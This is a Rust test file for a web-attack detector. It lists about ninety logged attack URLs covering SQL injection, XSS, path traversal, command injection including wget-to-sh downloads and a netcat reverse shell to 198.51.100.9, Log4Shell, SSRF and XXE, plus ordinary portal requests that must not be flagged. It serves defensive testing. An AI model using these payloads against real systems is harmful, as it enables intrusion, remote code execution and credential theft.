//! Requests written down before any rule was tried on them: attacks of kinds that are known from the field, and what citizens, offices and
//! programs ask. What is missed or falsely found is told by name, so that a rule is made more general and not for the request.

use judge::Judge;

mod judge;

/// Attacks, as a server logs them.
const ATTACKS: &[&str] = &[
    // Databases.
    "/tra-cuu?ma=1%27%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,(SELECT%20@@version)))--+",
    "/ho-so?id=10%20AND%201=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)",
    "/ho-so?id=1%20RLIKE%20(SELECT%20(CASE%20WHEN%20(7=7)%20THEN%201%20ELSE%200x28%20END))",
    "/ho-so?id=1;SELECT%20PG_SLEEP(5)--",
    "/ho-so?id=1%27)%20AS%20a%20WHERE%201=1%20AND%20SLEEP(5)%23",
    "/ho-so?sort=(CASE%20WHEN%20(1=1)%20THEN%20ten%20ELSE%20ma%20END)",
    "/ho-so?id=1%20and%20(select*from(select(sleep(20)))a)",
    "/ho-so?id=if(now()=sysdate(),sleep(15),0)",
    "/ho-so?id=0%27XOR(if(now()=sysdate(),sleep(15),0))XOR%27Z",
    "/ho-so?id=(select(0)from(select(sleep(15)))v)/*%27%2B(select(0)from(select(sleep(15)))v)%2B%27*/",
    "/ho-so?id=-1%20OR%203*2*1=6%20AND%20000491=000491%20--",
    "/ho-so?id=@@dVqGm",
    "/ho-so?id=1%bf%27%20or%201=1--",
    "/ho-so?id=1%20%26%26%20%271%27=%271",
    "/ho-so?id=1%20procedure%20analyse()",
    "/login?u=admin%27/*&p=*/or/**/1=1--",
    "/ho-so?id=1%2527%2520or%25201%253D1--",
    "/ho-so?id=%EF%BC%87%20or%201=1--",
    "/ho-so/1'%20and%20'1'='1",
    "/ho-so?id=1%20AND%20(SELECT%20COUNT(*)%20FROM%20ALL_USERS%20T1,ALL_USERS%20T2)%3E0",
    // Browsers.
    "/tim?q=%3Csvg%20onload=confirm(1)%3E",
    "/tim?q=%22%3E%3Cimg%20src=x%20onerror=prompt(1)%3E",
    "/tim?q=%3Cdetails%20open%20ontoggle=alert(1)%3E",
    "/tim?q=%3Ciframe%20srcdoc=%22%26lt;script%26gt;alert(1)%26lt;/script%26gt;%22%3E",
    "/tim?q=%3CScRiPt%3Ealert(String.fromCharCode(88))%3C/sCrIpT%3E",
    "/tim?q=%27-alert(1)-%27",
    "/tim?q=javascript%3Aalert(document.domain)",
    "/tim?q=%253Cscript%253Ealert(1)%253C/script%253E",
    "/tim?q=%3Cx%20onclick=alert(1)%3Eclick",
    "/tim?q=%3Cmath%3E%3Cmi//xlink:href=%22data:x,%3Cscript%3Ealert(4)%3C/script%3E%22%3E",
    "/tim?q=%3Cbody%20onpageshow=alert(1)%3E",
    "/tim?q=\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "/tim?q=%3Ca%20href=%22jav%26%23x09;ascript:alert(1)%22%3E",
    // Files.
    "/tai-ve?file=..%2f..%2f..%2fetc%2fpasswd",
    "/tai-ve?file=....%2f%2f....%2f%2fetc%2fshadow",
    "/tai-ve?file=%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
    "/tai-ve?file=/etc/passwd",
    "/tai-ve?file=file:///etc/hosts",
    "/tai-ve?file=C:\\Windows\\System32\\drivers\\etc\\hosts",
    "/tai-ve?file=/proc/self/environ",
    "/tai-ve?file=/var/log/nginx/access.log",
    "/tai-ve?page=php://filter/convert.base64-encode/resource=index",
    "/tai-ve?page=expect://id",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/static/..%c0%af..%c0%afetc/passwd",
    "/static/%252e%252e/%252e%252e/etc/passwd",
    "/icons/.%%32%65/.%%32%65/etc/passwd",
    "/..;/..;/manager/html",
    "/tai-ve?file=../../../../../../../../WEB-INF/web.xml",
    // Commands.
    "/ping?ip=127.0.0.1%3Bid",
    "/ping?ip=8.8.8.8%26%26whoami",
    "/ping?ip=%7Ccat%20/etc/passwd",
    "/ping?ip=%60uname%20-a%60",
    "/ping?ip=$(sleep%205)",
    "/ping?ip=127.0.0.1%0Aid",
    "/ping?ip=;c'a't%20/etc/p'a'sswd",
    "/ping?ip=;wget%20http://198.51.100.9/m.sh%20-O-|sh",
    "/ping?ip=1;busybox%20nc%20198.51.100.9%204444%20-e%20sh",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.9/x+-O+/tmp/n;sh+n&curpath=/&currentsetting.htm=1",
    "/board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/x",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget http://198.51.100.9/t`)",
    "/ping?ip=%7B%7Bping,-c,1,198.51.100.9%7D%7D",
    // Code.
    "/xem?name={{7*'7'}}",
    "/xem?name=${7*7}",
    "/xem?name=%23{7*7}",
    "/xem?name=<%25=%207*7%20%25>",
    "/xem?x=${jndi:ldap://198.51.100.9/a}",
    "/xem?x=$%7B$%7B::-j%7D$%7B::-n%7D$%7B::-d%7D$%7B::-i%7D:rmi://198.51.100.9/a%7D",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=a",
    "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=a",
    "/index.action?method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS",
    "/x?data=O:8:%22Evil%22:1:{s:1:%22a%22;s:2:%22id%22;}",
    "/x?data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    "/x?a=system(%27id%27)",
    "/x?a=phpinfo()",
    "/x?a=eval(base64_decode($_POST[1]))",
    "/x?__proto__[isAdmin]=true",
    // Requests on others' behalf.
    "/lay?url=http://169.254.169.254/latest/meta-data/",
    "/lay?url=http://127.0.0.1:6379/",
    "/lay?url=gopher://127.0.0.1:6379/_INFO",
    "/lay?url=http://[::1]:22/",
    "/lay?url=http://2130706433/",
    "/lay?url=http://metadata.google.internal/computeMetadata/v1/",
    "/lay?url=dict://127.0.0.1:11211/stats",
    // Directories and documents.
    "/login?user=*)(uid=*))(|(uid=*&pass=x",
    "/login?user[$ne]=x&pass[$ne]=x",
    "/login?user=admin&pass[$regex]=^a",
    "/tim?x=%27%20or%20count(parent::*[position()=1])=0%20or%20%27a%27=%27b",
    "/x?a=%3C!--%23exec%20cmd=%22id%22--%3E",
    "/x?a=%0d%0aSet-Cookie:%20a=b",
    "/x?a=%3C!DOCTYPE%20a%20[%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E",
];

/// What is ordinary, however odd it looks.
const ORDINARY: &[&str] = &[
    "/",
    "/trang-chu",
    "/thu-tuc/dang-ky-khai-sinh?huyen=Qu%E1%BA%ADn%201&xa=B%E1%BA%BFn%20Ngh%C3%A9",
    "/tim-kiem?q=th%E1%BB%A7%20t%E1%BB%A5c%20%22c%E1%BA%A5p%20%C4%91%E1%BB%95i%22%20CCCD",
    "/tim-kiem?q=Q%26A",
    "/tim-kiem?q=l%C3%AA%20th%E1%BB%8B%20d%27arc",
    "/tim-kiem?q=c%2B%2B%20and%20c%23",
    "/tim-kiem?q=select%20a%20service",
    "/tim-kiem?q=drop%20off%20point",
    "/tim-kiem?q=union%20of%20workers",
    "/tim-kiem?q=order%20by%20phone",
    "/tim-kiem?q=1%20or%202%20years",
    "/tim-kiem?q=%28c%C5%A9%29%20s%E1%BB%95%20h%E1%BB%99%20kh%E1%BA%A9u",
    "/tim-kiem?q=gi%C3%A1%20%3C%20100.000%20%C4%91%E1%BB%93ng",
    "/tim-kiem?q=http://dichvucong.example.vn/huong-dan",
    "/tim-kiem?q=what%27s%20new%3F",
    "/tim-kiem?q=%23covid19%20%40ubnd",
    "/tim-kiem?q=50%25%20gi%E1%BA%A3m%20ph%C3%AD",
    "/tim-kiem?q=cat%20and%20dog%20licence",
    "/tim-kiem?q=id%20card%20lost",
    "/tim-kiem?q=sleep%20(health)",
    "/api/ho-so?$filter=trangThai%20eq%20%27MOI%27%20and%20nam%20ge%202024&$orderby=ngay%20desc&$top=20",
    "/api/ho-so?filter=%7B%22where%22:%7B%22status%22:%22new%22%7D,%22limit%22:10%7D",
    "/api/ho-so?fields=id,name,created_at&sort=-created_at&page[number]=2&page[size]=50",
    "/api/v1/users?filter[role]=admin&include=profile",
    "/api/graphql?query=%7B%20hoSo(id:%20%2212%22)%20%7B%20ten%20ngay%20%7D%20%7D",
    "/api/search?range=2024-01-01..2024-12-31",
    "/api/search?expr=a%3E%3D5%26%26b%3C10",
    "/geoserver/wms?SERVICE=WMS&VERSION=1.3.0&REQUEST=GetMap&BBOX=20.9,105.7,21.1,105.9&LAYERS=hn:quan&CRS=EPSG:4326",
    "/geoserver/wfs?service=WFS&request=GetFeature&cql_filter=ten%20LIKE%20%27H%C3%A0%25%27",
    "/arcgis/rest/services/BanDo/MapServer/0/query?where=1%3D1&outFields=*&f=json",
    "/login?returnUrl=%2Fho-so%2Fchi-tiet%2F12",
    "/login?returnUrl=https%3A%2F%2Fdichvucong.example.vn%2Fhome%2Findex",
    "/sso?SAMLRequest=fZJNT%2BMwEIbvSPwHy%2Fd8OKXQWk1QASEqIahI4MDNdSaJ1cQTPE7L%2Fvt1UxCwB46WZ57X89iLq%2FfWkB04UmgTyoKIErAFKm2rhD4X9%2BGMXqWnJwuStelwue1r%2BwRvPZAnQ6cl2H4ltHeWoyRNuJUtEPcFz5cPaxwFEe8cenSGIku4yHXqC%2FnkLGPaA%3D%3D",
    "/oauth/callback?code=4%2F0AX4XfWh-a_b&state=eyJub25jZSI6IjEyMyJ9&scope=openid%20profile",
    "/static/js/app.3f2a1b.chunk.js?v=1.2.3",
    "/static/css/main.css?ver=6.4.2#a",
    "/_next/image?url=%2Fimages%2Fbanner.png&w=1920&q=75",
    "/_next/data/abc123/tin-tuc/[slug].json?slug=a",
    "/wp-content/themes/a/style.css?ver=1",
    "/uploads/2024/11/quyet-dinh-so-12-QD-UBND%20(ban%20hanh).pdf",
    "/files/B%C3%A1o%20c%C3%A1o%20th%C3%A1ng%2011%20-%20%C4%90%E1%BB%A3t%201%20&%202.docx",
    "/van-ban/12/2024/N%C4%90-CP",
    "/tin-tuc/thong-bao-v/v-nghi-le-2-9",
    "/tin-tuc/index.php?option=com_content&view=article&id=12:abc&catid=3",
    "/index.php?r=site/index",
    "/Portals/0/Images/a.jpg?ver=2024-01-01-000000-000",
    "/WebResource.axd?d=pynGkmcFUV13He1Qd6_TZ&t=637814",
    "/ScriptResource.axd?d=nv7asgRUU0tRmHNR2D6t1&t=ffffffff",
    "/Default.aspx?tabid=57&language=vi-VN",
    "/signalr/negotiate?clientProtocol=2.1&connectionData=%5B%7B%22name%22%3A%22hub%22%7D%5D&_=1700000000000",
    "/socket.io/?EIO=4&transport=polling&t=O_x1.2",
    "/track?u=https%3A%2F%2Fexample.vn%2F%3Futm_source%3Dzalo%26utm_medium%3Dsocial%26utm_campaign%3Dt11&r=https%3A%2F%2Fwww.google.com%2F",
    "/?utm_source=facebook&utm_medium=cpc&fbclid=IwAR0_abc-DEF",
    "/?gclid=EAIaIQobChMI_abc--def",
    "/proxy?url=https%3A%2F%2Fapi.example.gov.vn%2Fv1%2Fdata%3Fid%3D1",
    "/map?q=21.0278,105.8342&z=12",
    "/lich?from=2024-11-01T00:00:00+07:00&to=2024-11-30T23:59:59+07:00",
    "/tra-cuu?ma=000.00.01.H49-241124-0012&cccd=***",
    "/tra-cuu?ma_ho_so=H49.12-241126-0001&ngay_sinh=01/01/1990",
    "/tra-cuu?email=lan.nguyen%2Btest@example.vn",
    "/danh-sach?cot=ten;ngay;trang_thai&sap_xep=ngay:desc",
    "/danh-sach?loc=(a|b)&trang=1",
    "/danh-sach?ids[]=1&ids[]=2&ids[]=3",
    "/bao-cao?ky=Q3/2024&don_vi=S%E1%BB%9F%20T%C3%A0i%20ch%C3%ADnh",
    "/bao-cao?cong_thuc=(a%2Bb)/c*100",
    "/bao-cao/export?type=xlsx&columns=A:F&title=%3D%20T%E1%BB%95ng%20h%E1%BB%A3p",
    "/hoi-dap?cau_hoi=T%C3%B4i%20mu%E1%BB%91n%20h%E1%BB%8Fi:%20l%C3%A0m%20CCCD%20%E1%BB%9F%20%C4%91%C3%A2u?%20Xin%20c%E1%BA%A3m%20%C6%A1n!",
    "/gop-y?nd=Trang%20web%20b%E1%BB%8B%20l%E1%BB%97i%20%3C%3C404%3E%3E%20khi%20n%E1%BB%99p",
    "/healthz",
    "/metrics",
    "/.well-known/acme-challenge/abc",
    "/.well-known/openid-configuration",
    "/robots.txt",
    "/favicon.ico",
    "/sitemap.xml?page=1",
    "/rest/api/2/search?jql=project%20%3D%20CNTT%20AND%20status%20in%20(Open,%20%22In%20Progress%22)%20ORDER%20BY%20created%20DESC",
    "/api/datasources/proxy/1/api/v1/query?query=sum(rate(http_requests_total%7Bjob%3D%22web%22%7D%5B5m%5D))%20by%20(code)",
    "/kibana/app/discover#/?_g=(time:(from:now-15m,to:now))&_a=(columns:!(message),query:(language:kuery,query:'status:200'))",
    "/git/repo/info/refs?service=git-upload-pack",
    "/nexus/repository/npm/@angular%2fcore/-/core-17.0.0.tgz",
    "/solr/tin/select?q=ten:%22an%20giang%22&fq=nam:[2020%20TO%202024]&wt=json",
    "/download?path=%2Fbieu-mau%2Fmau-01.docx",
    "/download?file=bao-cao-2024.pdf",
    "/view?page=huong-dan/dang-ky",
    "/xem?template=mau-01&lang=vi",
    "/cmd?action=list",
    "/exec-report?id=12",
    "/s?k=%E6%9C%8D%E5%8A%A1&l=zh",
    "/s?q=%F0%9F%98%80%20vui",
];

/// Conditions of other query languages look like those of databases: what is between Jira's and an attack, the request does not say.
const FALSE_MAX: usize = 2;

const AGENT: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

#[test]
fn attacks_of_the_field_are_found_and_ordinary_requests_are_not() {
    let judge = Judge::new();
    let says = |url: &&&str| judge.says("GET", url, AGENT, "", 200);
    let missed: Vec<&&str> = ATTACKS.iter().filter(|url| says(url).is_empty()).collect();
    let falsely: Vec<(&&str, Vec<String>)> =
        ORDINARY.iter().map(|url| (url, says(&url))).filter(|(_, said)| !said.is_empty()).collect();
    for url in &missed {
        eprintln!("missed {url}");
    }
    for (url, said) in &falsely {
        eprintln!("false {said:?} {url}");
    }
    eprintln!(
        "{} of {} missed, {} of {} false",
        missed.len(),
        ATTACKS.len(),
        falsely.len(),
        ORDINARY.len()
    );
    assert!(missed.is_empty(), "{missed:?}");
    assert!(falsely.len() <= FALSE_MAX, "{falsely:?}");
}
